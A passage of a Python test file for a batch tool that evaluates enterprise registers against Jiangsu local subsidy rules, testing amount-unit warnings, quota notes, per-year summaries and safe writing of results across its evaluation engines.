        f"{code},L2,loan,2022-07-01,智能化改造提升项目,2000万元,是\n",
    )
    rows = batch_rows(folder, "reference", "2022-12-31", tmp_path / "结果.csv", capsys)
    blank, given = rows[("sz20-1-loan-city", "L1")], rows[("sz20-1-loan-city", "L2")]
    assert blank["原因与说明"] == "是否在苏州综合金融服务等平台获得贷款：否（或未填写，按默认值）（应为“是”）"
    assert given["状态"] == "可享受" and "未填写" not in given["原因与说明"]


def test_an_applicant_of_another_kind_is_told_which_kinds_the_item_admits(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """吴中2025 第13条 信创 is for 企业: a 高校院所's row says so in every engine (the compiled engines said
    only 主体类型不在支持范围内)."""
    code = make_credit_code("12320506466W20004")
    folder = csv_register(
        tmp_path,
        f"credit_code,name,kind,region\n{code},示例研究院,高校院所,320506\n",
        f"credit_code,id,kind,date,category,total_investment\n{code},X1,project,2025-08-01,信创投入,100万元\n",
    )
    for name in ("reference", "duckdb"):
        row = batch_rows(folder, name, "2025-12-31", tmp_path / f"{name}.csv", capsys)[("wz-13-xinchuang", "X1")]
        assert row["原因代码"] == "applicant"
        assert row["原因与说明"] in ("主体类型不在支持范围（企业）内", "主体类型“高校院所”不在支持范围（企业）内"), (name, row)


@pytest.mark.parametrize("engine", ["reference", "duckdb"])
def test_amounts_typed_in_wan_under_yuan_headers_are_pointed_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine: str
) -> None:
    """The officer's likeliest Excel mistake: 1200 (万元) under 项目实际总投入（元）. Every item came out as a
    near miss (投资额800.00元低于200万元) with an empty error list; the columns far below every threshold the
    texts set on them are now named, with the header to write, and no row is refused for it. The default
    engine (DuckDB, reading the workbook in SQL) said nothing."""

    def register(name: str, scale: int) -> Path:
        ent = [
            ["统一社会信用代码", "名称", "注册地行政区划代码", "所在镇（街道、板块）", "是否工业企业"],
            ["91320506MA1XXXXX09", "甲", "320506", "木渎镇", "是"],  # a town: no notice of a blank one
        ]
        header = [
            "统一社会信用代码",
            "事项编号",
            "事项类型",
            "发生日期",
            "项目类别",
            "项目实际总投入（元）",
            "智能改造（含软件）投资额（元）",
        ]
        event = ["91320506MA1XXXXX09", "P1", "投资项目", "2025-09-01", "智能化改造", 1200 * scale, 800 * scale]
        return sheets_xlsx(tmp_path / name, {"企业": ent, "事项": [header, event]})

    notices = {}
    for name, scale in (("万元误填.xlsx", 1), ("按元填写.xlsx", 10_000)):
        assert main(["batch", str(register(name, scale)), "--engine", engine, "--as-of", "2025-12-31", "--json"]) == 0
        data = json.loads(capsys.readouterr().out)
        notices[name] = [(e["column"], e["value"], e["rejected"]) for e in data["errors"]]
        assert data["rows_rejected"] == 0
    assert notices["按元填写.xlsx"] == []
    assert notices["万元误填.xlsx"] == [
        ("智能改造（含软件）投资额（元）", "中位数800.00元", False),
        ("项目实际总投入（元）", "中位数1,200.00元", False),
    ]


def test_the_payers_of_items_without_an_amount_are_named_as_the_engines_name_payers(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``io_write.PayerNames`` names the payers of items without a stated amount (which have no payer
    rows) from the rules: for every granted money item of a synthetic register it gives exactly the
    payers the compiled engine wrote, so both kinds of item are counted under the same 按出资方 lines."""
    pq = pytest.importorskip("pyarrow.parquet")
    pytest.importorskip("duckdb")
    from huiqi.batch.io_write import PayerNames

    register = tmp_path / "reg.parquet"
    assert main(["synth", "--enterprises", "300", "--seed", "5", "--out", str(register)]) == 0
    out = tmp_path / "r.parquet"
    assert main(["batch", str(register), "--as-of", "2026-12-31", "--out", str(out)]) == 0
    capsys.readouterr()
    written: dict[tuple[str, str, str | None], set[tuple[str, str]]] = {}
    for p in pq.read_table(tmp_path / "r.payers.parquet").to_pylist():
        written.setdefault((p["credit_code"], p["benefit"], p["event_id"]), set()).add((p["role"], p["payer"]))
    names = PayerNames(engine().library)
    granted = [r for r in pq.read_table(out).to_pylist() if r["status"] == "granted" and r["is_money"]]
    assert len({r["benefit"] for r in granted}) > 20
    for r in granted:
        assert set(names(r["benefit"], r["region"], r["town"])) == written[(r["credit_code"], r["benefit"], r["event_id"])], r


@pytest.mark.parametrize("engine", ["reference", "duckdb"])
def test_a_quota_note_says_what_the_places_can_cost_at_most(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine: str
) -> None:
    """武进2024 第1条 每年择优支持不超过20个项目: 25 projects qualify in 2024 and the totals count all 25. A budget
    officer needs the most the 20 places can cost: the sum of the 20 largest (5万元 + 0.5万元·i for i = 5…24)."""
    ents = ["credit_code,name,region,industrial,manufacturing_enterprise"]
    evs = ["credit_code,id,kind,date,category,total_investment,smart_it_investment"]
    for i in range(25):
        code = make_credit_code(f"91320412MA1Q{i:05d}")
        ents.append(f"{code},企业{i},320412,是,是")
        evs.append(f"{code},P{i},project,2024-05-01,智改数转网联改造,{600 + i}0000,{100 + i * 10}0000")
    folder = csv_register(tmp_path, "\n".join(ents) + "\n", "\n".join(evs) + "\n")
    assert main(["batch", str(folder), "--engine", engine, "--as-of", "2024-12-31", "--json"]) == 0
    quotas = json.loads(capsys.readouterr().out)["quotas"]
    assert quotas["武进2024 第1条 “智改数转网联”改造提升项目补助"].endswith(
        "符合条件的2024年25项均已计入合计，实际以名额为限；按名额计至多2024年245万元（金额最高的20项之和）"
    )


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_results_that_cannot_be_written_whole_leave_the_last_good_ones(tmp_path: Path, suffix: str) -> None:
    """A full disk overwrote the last good results with a truncated CSV (or a Parquet file without its footer) that
    still looked loadable downstream. The results are written beside the file and moved into place once whole: a
    run stopped by a file-size limit (as a full disk stops it) leaves the earlier file as it was, and says which."""
    import resource
    import signal
    import subprocess
    import sys

    register = tmp_path / "reg.parquet"
    assert main(["synth", "--enterprises", "300", "--out", str(register)]) == 0
    out = tmp_path / "out" / f"r{suffix}"
    assert main(["batch", str(register), "--as-of", "2025-12-31", "--out", str(out)]) == 0
    before = {p.name: p.read_bytes() for p in out.parent.iterdir()}

    def small_files() -> None:  # writes past 64 KB fail with EFBIG, as on a full disk with ENOSPC
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (65_536, 65_536))

    argv = [sys.executable, "-m", "huiqi.cli", "batch", str(register), "--as-of", "2025-12-31", "--out", str(out)]
    done = subprocess.run(argv, preexec_fn=small_files, capture_output=True, text=True, check=False)
    assert done.returncode == 2, done.stderr
    assert f"无法写出“{out}”" in done.stderr and "已有的同名结果文件未改动" in done.stderr
    assert "Traceback" not in done.stderr
    assert {p.name: p.read_bytes() for p in out.parent.iterdir()} == before  # nothing changed, no half-written folder


def test_a_decimal_amount_too_large_for_fen_is_refused_on_its_row(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A DECIMAL(30,3) money column holding 1e26 (a platform's NUMERIC column) stopped the whole run with DuckDB's
    English overflow error and a traceback; the row is refused as too large, and the others are evaluated."""
    from decimal import Decimal as D

    import pyarrow as pa
    import pyarrow.parquet as pq

    register = tmp_path / "reg.parquet"
    assert main(["synth", "--enterprises", "200", "--out", str(register)]) == 0
    events = pq.read_table(register / "events.parquet")
    amounts = [None if v is None else D(v) for v in events.column("amount").to_pylist()]
    row = next(i for i, v in enumerate(amounts) if v is not None)
    amounts[row] = D("1e26")
    column = pa.array(amounts, pa.decimal128(30, 3))
    pq.write_table(events.set_column(events.schema.get_field_index("amount"), "amount", column), register / "events.parquet")
    capsys.readouterr()
    assert main(["batch", str(register), "--as-of", "2025-12-31", "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    refused = [e for e in data["errors"] if e["rejected"] and e["sheet"] == "事项"]
    assert [(e["row"], e["column"]) for e in refused] == [(row + 1, "amount")], refused  # Parquet rows count from 1
    assert "过大" in refused[0]["expected"] or "位" in refused[0]["expected"], refused
    assert data["events_evaluated"] == events.num_rows - 1


@pytest.mark.parametrize("engine", ["reference", "duckdb"])
def test_a_register_without_events_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str], engine: str) -> None:
    """A folder holding only enterprises.parquet (the events' export failed upstream) ran as if no enterprise had
    done anything, without a word: a notice says only enterprise-level items were evaluated."""
    register = tmp_path / "reg.parquet"
    assert main(["synth", "--enterprises", "50", "--out", str(register)]) == 0
    for name in ("events", "qualifications", "prior_awards"):
        (register / f"{name}.parquet").unlink()
    capsys.readouterr()
    assert main(["batch", str(register), "--engine", engine, "--as-of", "2025-12-31", "--json"]) == 0
    errors = json.loads(capsys.readouterr().out)["errors"]
    assert [(e["sheet"], e["row"], e["rejected"]) for e in errors] == [("事项", 0, False)]
    assert errors[0]["expected"].startswith("没有事项表（events 或 事项）：只测算了企业层面的奖补")


# 按年度: a 武进 project of 2024 and a 吴中 project of 2025, and a 吴中 yearly item (人形机器人整机企业
# 阶梯式奖励, no event) that the run's 基准日 dates
YEARS_ENTERPRISES = (
    "credit_code,name,region,town,industrial,manufacturing_enterprise,sectors\n"
    "91320412MA1WJ00024,示例武进制造企业,320412,横林镇,是,是,\n"
    "91320506MA1XXXXX09,示例人形机器人整机企业,320506,木渎镇,是,,人形机器人整机制造\n"
)
YEARS_EVENTS = (
    "credit_code,id,kind,date,category,total_investment,smart_it_investment,equipment_investment,"
    "smart_investment,annual_investment\n"
    "91320412MA1WJ00024,P1,project,2024-03-01,智改数转网联改造,10000000,4000000,,,\n"
    "91320506MA1XXXXX09,P2,project,2025-09-15,智能化改造,12000000,,9000000,7000000,12000000\n"
)


def year_run(
    tmp_path: Path, engine_name: str, as_of: str, fmt: str, capsys: pytest.CaptureFixture[str]
) -> tuple[dict[str, Any], list[dict[str, str]], list[list[str]]]:
    """``huiqi batch`` of the 按年度 register (a CSV folder, streamed by DuckDB, or the same rows in
    an .xlsx) to CSV: its ``--json``, its result rows and its 按年度 sheet (header first)."""
    register = csv_register(tmp_path, YEARS_ENTERPRISES, YEARS_EVENTS)
    if fmt == "xlsx":
        sheets = {}
        for name, label in (("enterprises", "企业"), ("events", "事项")):
            with (register / f"{name}.csv").open(encoding="utf-8") as fh:
                sheets[label] = [[c or None for c in row] for row in csv.reader(fh)]
        register = sheets_xlsx(tmp_path / "登记表.xlsx", sheets)
    out = tmp_path / "结果.csv"
    args = ["batch", str(register), "--engine", engine_name, "--as-of", as_of, "--out", str(out), "--json"]
    assert main(args) == 0
    data = json.loads(capsys.readouterr().out)
    with out.open(encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    with out.with_name("结果.按年度.csv").open(encoding="utf-8-sig") as fh:
        sheet = list(csv.reader(fh))
    return data, rows, sheet


@pytest.mark.parametrize("as_of", ["2025-12-31", "2026-06-30"])
@pytest.mark.parametrize(
    ("engine_name", "fmt"),
    [("reference", "csv"), ("duckdb", "csv"), ("duckdb", "xlsx"), pytest.param("spark", "xlsx", marks=pytest.mark.spark)],
)
def test_the_year_summary_totals_each_years_granted_rows(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine_name: str, fmt: str, as_of: str
) -> None:
    """按年度 (the .csv sheet and ``--json`` by.year) has a line per year with the items granted in it:
    an event's year, and for an item without an event (事项编号 （年度）, evaluated on the 基准日)
    the 基准日's year; each line's totals are the sums of its year's granted rows of 结果."""
    if engine_name != "reference":
        pytest.importorskip("duckdb")
    data, rows, sheet = year_run(tmp_path, engine_name, as_of, fmt, capsys)
    want: dict[str, list[int]] = {}
    for r in rows:
        if r["状态"] != "可享受":
            continue
        year = (r["发生日期"] or as_of)[:4] + "年"
        line = want.setdefault(year, [0, 0, 0])
        if r["最低（元）"]:
            line[0] += 1
            line[1] += fen(r["最低（元）"])
            line[2] += fen(r["最高（元）"])
    yearly = [r for r in rows if r["事项编号"] == "（年度）" and r["状态"] == "可享受" and r["最高（元）"]]
    assert [r["奖补项编号"] for r in yearly] == ["wz-1-humanoid-maker"]  # the 基准日 dates it
    assert {r["发生日期"][:4] for r in rows if r["状态"] == "可享受" and r["发生日期"]} == {"2024", "2025"}
    years = ["2024年", "2025年"] if as_of.startswith("2025") else ["2024年", "2025年", "2026年"]
    assert sorted(want) == years
    assert sheet[0] == ["年度", "项数", "合计最低（元）", "合计最高（元）", "其中不设上限项数", "另有金额未定项数"]
    got = {r[0]: [int(r[1]), fen(r[2]), fen(r[3])] for r in sheet[1:]}
    assert got == want
    assert {k: [v["count"], fen(v["min"]), fen(v["max"])] for k, v in data["by"]["year"].items()} == want
    # the whole of it, as every other summary
    assert sum(v[2] for v in want.values()) == fen(data["total"]["max"])


@pytest.mark.parametrize(("engine_name", "fmt"), [("reference", "csv"), ("duckdb", "csv"), ("duckdb", "xlsx")])
def test_the_year_lines_come_in_year_order(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], engine_name: str, fmt: str
) -> None:
    """按年度 lists the years from the earliest (not the largest total first, as the other summaries):
    here 2025 pays more than 2024 and 2026, yet comes between them."""
    if engine_name != "reference":
        pytest.importorskip("duckdb")
    data, _, sheet = year_run(tmp_path, engine_name, "2026-06-30", fmt, capsys)
    lines = [r[0] for r in sheet[1:]]
    assert lines == list(data["by"]["year"]) == ["2024年", "2025年", "2026年"]
    highs = {k: fen(v["max"]) for k, v in data["by"]["year"].items()}
    assert highs["2025年"] > max(highs["2024年"], highs["2026年"])  # by amount 2025 would come first


def test_the_year_summary_is_the_same_whatever_the_engine(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The reference evaluator (its 按年度 summed in Python, ``io_write.summarise``) and DuckDB on the
    register as CSV files and as a workbook (aggregated in SQL chunk by chunk, ``stream._add``) give the
    same 按年度 lines, in the sheet and in ``--json``."""
    pytest.importorskip("duckdb")
    runs = {}
    for engine_name, fmt in (("reference", "csv"), ("duckdb", "xlsx"), ("duckdb", "csv")):
        folder = tmp_path / f"{engine_name}-{fmt}"
        folder.mkdir()
        data, _, sheet = year_run(folder, engine_name, "2025-12-31", fmt, capsys)
        runs[engine_name, fmt] = (data["by"]["year"], sheet)
    assert len(runs["reference", "csv"][1]) == 3  # the header and two years
    assert runs["reference", "csv"] == runs["duckdb", "xlsx"] == runs["duckdb", "csv"]


def test_the_terminal_lists_the_years(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Without ``--json`` the run's text ends its totals with 按年度, a line a year in year order."""
    register = csv_register(tmp_path, YEARS_ENTERPRISES, YEARS_EVENTS)
    assert main(["batch", str(register), "--engine", "reference", "--as-of", "2026-06-30"]) == 0
    text = capsys.readouterr().out
    listed = text.split("按年度：\n", 1)[1].splitlines()
    assert [line.strip().split("：")[0] for line in listed[:3]] == ["2024年", "2025年", "2026年"]
    assert listed[3].startswith("用时")
